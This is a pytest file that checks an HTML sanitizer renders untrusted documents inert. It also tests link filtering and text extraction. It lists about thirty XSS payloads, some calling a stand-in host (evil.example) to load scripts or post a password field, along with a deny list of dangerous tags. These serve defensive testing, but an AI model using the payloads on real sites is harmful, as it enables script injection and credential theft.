"""Untrusted document HTML comes out inert.

Each vector is checked twice: by what it must not contain, and by parsing the output with lxml
(an independent HTML parser) and checking every element and attribute against what a harmless
document may hold.
"""

import lxml.html
import pytest

from assessments.rendering import ALLOWED_TAGS, document_html, html_text, safe_link, topic_terms

XSS_VECTORS = {
    "script": "<p>ok</p><script>window.__pwned = 1</script>",
    "script with odd case and attributes": '<ScRiPt type="text/javascript" src="//evil.example/x.js"></ScRiPt>',
    "img onerror": '<img src="x" onerror="window.__pwned=1">',
    "body onload": '<body onload="window.__pwned=1"><p>text</p></body>',
    "event attribute on text": '<p onclick="window.__pwned=1" onmouseover="x()">hover</p>',
    "javascript: link": '<a href="javascript:window.__pwned=1">click</a>',
    "javascript: link with entities": '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "javascript: link with spaces and case": '<a href="  JaVaScRiPt:alert(1)">click</a>',
    "data: link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "vbscript: link": '<a href="vbscript:msgbox(1)">click</a>',
    "svg onload": '<svg onload="window.__pwned=1"><circle r="4"/></svg>',
    "svg with script": "<svg><script>window.__pwned=1</script></svg>",
    "math with link": '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    "style expression": '<p style="width: expression(alert(1)); background:url(javascript:alert(1))">styled</p>',
    "style element": "<style>body { display: none } @import url(//evil.example/x.css);</style><p>text</p>",
    "iframe": '<iframe src="https://evil.example/" srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "object and embed": '<object data="evil.swf"></object><embed src="evil.swf">',
    "form": '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="https://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "template": "<template><script>alert(1)</script></template>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment breakout": "<!--<img src=x onerror=alert(1)>-->",
    "dom clobbering ids": '<a id="judge-data" name="data">x</a><form id="note"></form>',
    "video and audio": '<video src="x" onerror="alert(1)"></video><audio src="x"></audio>',
    "picture srcset": '<picture><source srcset="https://tracker.example/p.png"><img src="https://tracker.example/p.png"></picture>',
    "unclosed attribute": '<p title="a><script>alert(1)</script>">x</p>',
    "relative link into our site": '<a href="/admin/">admin</a>',
}
ALLOWED_ATTRIBUTES = {"href", "title", "start", "colspan", "rowspan", "scope", "datetime", "rel", "target"}


@pytest.mark.parametrize("html", XSS_VECTORS.values(), ids=XSS_VECTORS.keys())
def test_untrusted_html_comes_out_inert(html):
    out = document_html(html, is_html=True)
    lowered = out.lower()
    for forbidden in ("<script", "javascript:", "vbscript:", "data:", "<svg", "<math", "<iframe", "<frame", "<object",
                      "<embed", "<form", "<input", "<img", "<style", "style=", "<meta", "<base", "<link", "<video",
                      "<source", "expression(", "srcdoc", " id=", " name="):
        assert forbidden not in lowered, f"{forbidden!r} survived in {out!r}"
    if not out.strip():
        return
    for element in lxml.html.fragment_fromstring(out, create_parent="div").iterdescendants():
        assert element.tag in ALLOWED_TAGS
        for attribute, value in element.attrib.items():
            assert attribute in ALLOWED_ATTRIBUTES and not attribute.startswith("on")
            if attribute == "href":
                assert value.startswith(("http://", "https://", "mailto:"))


def test_links_cannot_reach_back_or_pass_the_referrer():
    out = document_html('<a href="https://example.org/page">source</a>', is_html=True)
    link = lxml.html.fragment_fromstring(out, create_parent="div").find("a")
    assert link.get("href") == "https://example.org/page"
    assert set(link.get("rel").split()) == {"noopener", "noreferrer", "nofollow"}
    assert link.get("target") == "_blank"


def test_readable_structure_and_text_survive():
    html = "<html><head><title>T</title></head><body><h2>Pros</h2><ul><li>light</li></ul><p>Laptops &amp; <b>desktops</b></p><table><tr><td colspan=2>cell</td></tr></table></body></html>"
    out = document_html(html, is_html=True)
    assert "<h2>Pros</h2>" in out and "<li>light</li>" in out and "Laptops &amp; <b>desktops</b>" in out
    assert '<td colspan="2">cell</td>' in out
    assert "T" not in out.replace("Pros", "")  # the <title> is not body text


def test_plain_text_bodies_are_escaped_not_interpreted():
    out = document_html("Is <b>this</b> bold?\nNo.\n\n<script>alert(1)</script>", is_html=False)
    assert out == "<p>Is &lt;b&gt;this&lt;/b&gt; bold?<br>No.</p><p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://example.org/a?b=c", "http://example.org/a?b=c"),
        ("HTTPS://example.org/", "HTTPS://example.org/"),
        ("javascript:alert(1)", ""),
        (" javascript:alert(1)", ""),
        ("data:text/html,<script>alert(1)</script>", ""),
        ("//evil.example/", ""),
        ("", ""),
    ],
)
def test_only_http_urls_become_links(url, expected):
    assert safe_link(url) == expected


def test_highlight_terms_are_the_objects_then_the_title_content_words():
    terms = topic_terms(title="Which is better, a laptop or a desktop for gaming?", compared_objects=["laptop", "desktop"])
    assert terms == {"objects": ["laptop", "desktop"], "terms": ["gaming"]}


def test_causal_topics_highlight_cause_and_effect():
    terms = topic_terms(title="Can eating broccoli lead to constipation?", compared_objects=[], cause="broccoli", effect="constipation")
    assert terms == {"objects": ["broccoli", "constipation"], "terms": ["eating"]}


@pytest.mark.parametrize(
    "body, words",
    [
        ("<p>Cats</p><p>purr</p>", ["Cats", "purr"]),  # words in two elements do not run together
        ("<html><head><title>Site</title></head><body>Text</body></html>", ["Text"]),
        ("<div><p>a</p><script>var x = 1;</script><style>p {}</style><noscript>enable</noscript><p>b</p></div>", ["a", "b"]),
        ("<template><p>hidden</p></template><p>shown</p>", ["shown"]),
        ("", []),
        ("<!-- only a comment -->", []),
        # Where dropped content or a block element stood, words stay apart ...
        ("foo<script>x</script>bar", ["foo", "bar"]),
        ("foo<style>p {}</style>bar<noscript>n</noscript>baz", ["foo", "bar", "baz"]),
        ("<div>menu<p>first</p>second<p>third</p></div>", ["menu", "first", "second", "third"]),
        ("one<br>two<hr>three", ["one", "two", "three"]),
        ("<h1>Title</h1>Body<ul><li>a</li><li>b</li></ul>", ["Title", "Body", "a", "b"]),
        ("<table><tr><th>x</th><td>1</td></tr><tr><td>2</td></tr></table>", ["x", "1", "2"]),
        # ... while inline elements and comments join what is around them, as a browser shows it.
        ("S<b>pa</b>n and <a href='#'>l</a>ink", ["Span", "and", "link"]),
        ("foo<!-- c -->bar", ["foobar"]),
    ],
)
def test_html_text_keeps_only_the_words_a_reader_sees(body, words):
    assert html_text(body).split() == words


def test_html_text_separates_words_by_single_spaces():
    assert html_text("<p>  a \n\t b</p>\n\n<p>c</p>") == "a b c"


def test_a_document_laid_out_in_blocks_is_the_same_text_as_its_plain_version():
    """Duplicate grouping (services.duplicates) compares this text with plain-text documents."""
    html = "<article><h2>Cats</h2><p>Cats purr.</p><p>Dogs bark.</p><script>track()</script></article>"
    assert html_text(html) == "Cats Cats purr. Dogs bark."
